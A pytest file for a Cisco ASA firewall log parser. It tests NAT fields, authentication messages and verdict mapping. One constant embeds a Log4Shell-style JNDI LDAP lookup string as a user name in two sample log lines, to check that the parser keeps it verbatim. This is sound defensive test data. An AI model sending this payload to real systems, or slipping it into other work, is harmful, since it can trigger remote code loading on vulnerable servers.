"""Cisco ASA fidelity (issue 23): real variants, NAT, users, authentication, verdicts.

Each test fails on the parser before issue 23: the variants were rejected, the
mapped addresses, users and authentication messages were not read.
"""

from __future__ import annotations

import polars as pl
import pytest

from bastion.boundary.parsers import ParseContext, ParseResult, get_parser
from bastion.boundary.parsers.cisco_asa import ALLOWED, DENIED, VERDICTS
from bastion.boundary.parsers.fields import verdict
from bastion.core.events import LINE_COLUMN

HEADER = "<166>Nov 25 2025 13:01:02 asa01 : "


def parse(lines: list[str]) -> ParseResult:
    return get_parser("cisco-asa").parse(pl.Series(lines, dtype=pl.String), ParseContext())


def row(line: str) -> dict[str, object]:
    result = parse([line])
    assert result.rejects.height == 0, result.rejects.to_dicts()
    return result.events.row(0, named=True)


def test_a_batch_of_unread_message_ids_is_rejected_naming_each_id_and_the_rest_is_read() -> None:
    lines = [
        HEADER + "%ASA-5-111008: User 'enable_15' executed the 'write memory' command.",
        HEADER + "%ASA-7-609001: Built local-host inside:10.1.1.2",
        HEADER + "%FTD-1-430003: EventPriority: Low, DeviceUUID: 1",
    ]
    result = parse(lines)
    assert result.events.height == 0
    assert result.rejects.get_column("reason").to_list() == [
        "cisco-asa: ASA message 111008 is not read",
        "cisco-asa: ASA message 609001 is not read",
        "cisco-asa: FTD message 430003 is not read",
    ]
    deny = HEADER + (
        "%ASA-4-106023: Deny tcp src outside:192.0.2.10/54321 dst inside:10.0.0.5/23 "
        'by access-group "outside_access_in" [0x0, 0x0]'
    )
    mixed = parse([*lines, deny])
    assert mixed.events.get_column(LINE_COLUMN).to_list() == [3]
    assert mixed.rejects.height == 3


VARIANTS = {
    "icmp-type-code-bare": (
        "%ASA-4-106023: Deny icmp src outside:192.0.2.11 dst inside:10.0.0.6 type 3, code 0 "
        'by access-group "outside_access_in" [0x0, 0x0]',
        {"source.ip": "192.0.2.11", "destination.ip": "10.0.0.6", "source.port": None},
    ),
    "session-class-tag": (
        "%ASA-session-5-106100: access-list inside_in permitted udp inside/10.1.1.2(5353) -> "
        "outside/192.0.2.53(53) hit-cnt 1 first hit [0x1234abcd, 0x0]",
        {"source.ip": "10.1.1.2", "destination.port": 53, "rule.name": "inside_in"},
    ),
    "no-colon-after-id": (
        "%ASA-6-302016 Teardown UDP connection 7 for inside:10.1.1.3/53212 to "
        "outside:8.8.4.4/53 duration 0:00:01 bytes 80",
        {"source.ip": "10.1.1.3", "destination.ip": "8.8.4.4", "network.bytes": 80},
    ),
    "bare-user-after-bytes": (
        "%ASA-6-302016: Teardown UDP connection 6 for inside:10.1.1.2/53211 to "
        "outside:8.8.8.8/53 duration 0:02:01 bytes 312 (dave)",
        {"source.ip": "10.1.1.2", "user.name": "dave", "user.domain": None},
    ),
    "repeated-wrapper": (
        "message repeated 3 times: [ %ASA-4-106023: Deny udp src outside:192.0.2.40/1900 "
        'dst inside:10.0.0.255/1900 by access-group "outside_access_in" [0x0, 0x0]]',
        {"source.ip": "192.0.2.40", "destination.ip": "10.0.0.255", "destination.port": 1900},
    ),
}


@pytest.mark.parametrize("name", sorted(VARIANTS))
def test_real_variants_of_claimed_messages_are_read(name: str) -> None:
    message, want = VARIANTS[name]
    got = row(HEADER.replace(" : ", " ") + message if name == "repeated-wrapper" else message)
    assert {k: got[k] for k in want} == want


def test_a_named_host_is_never_put_in_an_address_column() -> None:
    got = row(
        "%ASA-6-302013: Built outbound TCP connection 10 for dmz:OCSP_Server/80 "
        "(OCSP_Server/80) to inside:10.1.1.7/51000 (203.0.113.1/51000)"
    )
    assert (got["destination.ip"], got["destination.nat.ip"]) == (None, None)
    assert (got["url.domain"], got["destination.port"]) == ("ocsp_server", 80)
    assert (got["source.ip"], got["source.nat.ip"]) == ("10.1.1.7", "203.0.113.1")


def test_mapped_addresses_and_translations_are_nat_fields() -> None:
    inbound = row(
        "%ASA-6-302013: Built inbound TCP connection 9 for outside:203.0.113.5/40000 "
        "(203.0.113.5/40000)(LOCAL\\alice) to dmz:10.0.0.5/443 (192.0.2.5/443)"
    )
    assert (inbound["destination.ip"], inbound["destination.port"]) == ("10.0.0.5", 443)
    assert (inbound["destination.nat.ip"], inbound["destination.nat.port"]) == ("192.0.2.5", 443)
    assert (inbound["user.name"], inbound["user.domain"]) == ("alice", "LOCAL")
    translation = row(
        "%ASA-6-305011: Built dynamic TCP translation from inside:10.1.1.2/1064 to "
        "outside:203.0.113.1/21064"
    )
    assert (translation["source.ip"], translation["source.port"]) == ("10.1.1.2", 1064)
    assert (translation["source.nat.ip"], translation["source.nat.port"]) == (
        "203.0.113.1",
        21064,
    )


JNDI = "${jndi:ldap://198.51.100.66:1389/a}"


@pytest.mark.parametrize(
    ("message", "user", "outcome", "source"),
    [
        (
            "%ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : "
            f"local database : user = {JNDI} : user IP = 203.0.113.66",
            JNDI,
            "failure",
            "203.0.113.66",
        ),
        (
            "%ASA-6-605004: Login denied from 203.0.113.66/51515 to outside:198.51.100.1/ssh for "
            f'user "{JNDI}"',
            JNDI,
            "failure",
            "203.0.113.66",
        ),
        (
            "%ASA-6-611102: User authentication failed: IP address: 203.0.113.67, Uname: r\\oot x",
            "r\\oot x",
            "failure",
            "203.0.113.67",
        ),
        (
            "%ASA-6-611101: User authentication succeeded: IP address: 10.1.1.9, Uname: grace",
            "grace",
            "success",
            "10.1.1.9",
        ),
    ],
)
def test_authentication_messages_keep_the_user_name_verbatim(
    message: str, user: str, outcome: str, source: str
) -> None:
    got = row(HEADER + message)
    assert (got["event.category"], got["event.outcome"]) == ("authentication", outcome)
    assert (got["user.name"], got["user.domain"], got["source.ip"]) == (user, None, source)
    assert got["event.type"] == ("denied" if outcome == "failure" else "allowed")


def test_icmp_error_ports_never_come_from_the_inner_packet() -> None:
    got = row(
        "%ASA-4-313005: No matching connection for ICMP error message: icmp src "
        "outside:192.0.2.30 dst inside:10.0.0.5 (type 3, code 3) on outside interface.  "
        "Original IP payload: udp src 10.0.0.5/53 dst 192.0.2.30/40000."
    )
    assert (got["source.ip"], got["destination.ip"]) == ("192.0.2.30", "10.0.0.5")
    assert (got["source.port"], got["destination.port"], got["network.transport"]) == (
        None,
        None,
        "icmp",
    )
    assert got["event.type"] == "denied"


def test_verdicts_come_from_one_table_and_unknown_words_are_null() -> None:
    assert set(VERDICTS.values()) == {"allowed", "denied"}
    words = pl.Series(["Built", "TEARDOWN", "discarded", "est-allowed", "Rejected", "hmm", None])
    got = words.to_frame("w").select(verdict(pl.col("w"), ALLOWED, DENIED)).to_series()
    assert got.to_list() == ["allowed", "allowed", "denied", "allowed", "denied", None, None]
